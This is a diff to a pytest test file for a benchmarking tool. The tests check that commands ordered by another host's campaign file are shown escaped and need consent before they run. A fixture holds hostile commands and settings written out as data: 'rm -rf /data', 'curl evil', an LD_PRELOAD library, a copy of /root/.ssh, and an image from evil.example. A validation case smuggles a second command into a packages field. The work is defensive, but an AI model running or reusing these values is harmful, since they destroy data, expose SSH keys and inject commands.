@@ -1,5 +1,6 @@
 """A campaign that another host's file orders runs only after somebody has seen what it would run, and agreed."""
 
+import dataclasses
 import os
 import pty
 import shutil
@@ -9,14 +10,18 @@ import sys
 from types import SimpleNamespace
 
 import pytest
+from pydantic import ValidationError
 
 from campaign.fakes import a_plan, a_record
 from tare.campaign import calibrate
 from tare.campaign.execution import conduct, trust
 from tare.campaign.plan.plan import job_of
+from tare.cli import consent
 from tare.errors import HostError, StoreError, UsageError
-from tare.store import create_store, read_store
+from tare.model import Program
+from tare.store import ProgramRecord, create_store, read_store
 from tare.workloads import registry
+from tare.workloads.own import program as own_program
 
 MAIN = "from tare.cli import main; main()"
 QUIET = SimpleNamespace(doing=lambda what: None, fault=lambda line: None)
@@ -126,6 +131,27 @@ def test_without_a_terminal_it_refuses_in_one_line(resume, tmp_path, record):
     assert "It would run" not in done.stderr
 
 
+@pytest.mark.parametrize("command", ["surface", "footprint"])
+def test_surfaces_and_footprints_are_not_added_to_it_unasked(command, reading_commands, tmp_path, record):
+    file = foreign(tmp_path, record)
+    before = file.read_bytes()
+    done = reading_commands.run(command, "-o", str(file), cwd=tmp_path, env={"TARE_AGENT": "/nowhere/agent"})
+    assert done.returncode == 2
+    assert "was not written by this host, and is not added to unasked" in done.stderr
+    assert file.read_bytes() == before
+
+
+def test_who_adds_to_it_sees_what_is_taken_from_it(home, tmp_path, record, capsys):
+    file = foreign(tmp_path, record)
+    with read_store(file) as store:
+        digest = trust.digest(store)
+    assert consent.agreed_to_add(file, trusted=True) == digest
+    assert f"{file} was not written by this host. Instances would be as it says:\n  CPUs " in capsys.readouterr().err
+    create_store(tmp_path / "own.tare", record, trust.mark).close()
+    for place in ("own.tare", "new.tare"):
+        assert consent.agreed_to_add(tmp_path / place, trusted=False) == ""
+
+
 @pytest.mark.thorough
 def test_at_a_terminal_it_shows_what_would_run_and_takes_no_for_an_answer(resume, tmp_path, record):
     done = resume(foreign(tmp_path, record), answer="n\n")
@@ -176,6 +202,84 @@ def test_every_profile_keeps_to_its_own_types():
     for workload in registry.all_workloads().values():
         for params in workload.profiles.values():
             job_of(workload, params, None)
+
+
+HOSTILE = Program(
+    argv=("sh", "-c", "curl evil\n  workload nothing: no parameters"),
+    prepare=("rm", "-rf", "/data"),
+    cleanup=("echo", "\x1b[2Jgone"),
+    env={"LD_PRELOAD": "/work/evil.so"},
+    folder="/root/.ssh",
+    image="docker://evil.example/x",
+    packages=("nmap",),
+)
+
+
+def _of_programs(record, *programs):
+    entries = [
+        record.workloads[0].model_copy(
+            update={
+                "name": f"job {number}",
+                "params": own_program.of("", ordered).profiles["quick"],
+                "program": ProgramRecord.model_validate(dataclasses.asdict(ordered)),
+            }
+        )
+        for number, ordered in enumerate(programs)
+    ]
+    return record.model_copy(update={"workloads": entries})
+
+
+def test_of_a_users_command_all_that_it_may_do_is_shown(tmp_path, record, home):
+    file = foreign(tmp_path, _of_programs(record, HOSTILE))
+    with read_store(file) as store:
+        lines = list(trust.orders(store))
+    assert lines[2:9] == [
+        "  runs: sh -c 'curl evil⏎  workload nothing: no parameters'",
+        "  before each run: rm -rf /data",
+        "  after the last: echo '\x1b[2Jgone'",
+        "  environment: LD_PRELOAD=/work/evil.so",
+        "  with a copy of the folder: /root/.ssh",
+        "  in the image: docker://evil.example/x",
+        "  with the packages: nmap",
+    ]
+    assert not any("\n" in line for line in lines)
+
+
+@pytest.mark.thorough
+def test_what_a_command_is_shown_as_obeys_no_terminal(resume, tmp_path, record):
+    done = resume(foreign(tmp_path, _of_programs(record, HOSTILE)), answer="n\n")
+    assert done.returncode == 1
+    assert "\x1b[2J" not in done.stderr
+    assert "before each run: rm -rf /data" in done.stderr
+
+
+def test_a_command_comes_back_from_the_record_as_it_was(record):
+    [job] = trust.jobs_of(_of_programs(record, HOSTILE))
+    assert (job.workload.name, job.workload.program) == ("job 0", HOSTILE)
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("packages", ['x"]\ncommands = ["touch /tmp/evil"]\n#']),
+        ("packages", ["--help"]),
+        ("argv", []),
+        ("argv", ["a\0b"]),
+        ("argv", ["a"] * 251),
+        ("env", {"A B": "1"}),
+        ("env", {"": "1"}),
+        ("time_limit_s", 0),
+        ("time_limit_s", float("inf")),
+        ("warmup", -1),
+        ("warmup", 10**9),
+        ("folder", "x" * 5000),
+        ("shell", True),
+    ],
+)
+def test_a_record_of_a_command_that_cannot_be_is_no_record(field, value):
+    ProgramRecord.model_validate(dataclasses.asdict(HOSTILE))
+    with pytest.raises(ValidationError):
+        ProgramRecord.model_validate({**dataclasses.asdict(HOSTILE), field: value})
 
 
 def test_trust_is_of_a_file_that_there_is():
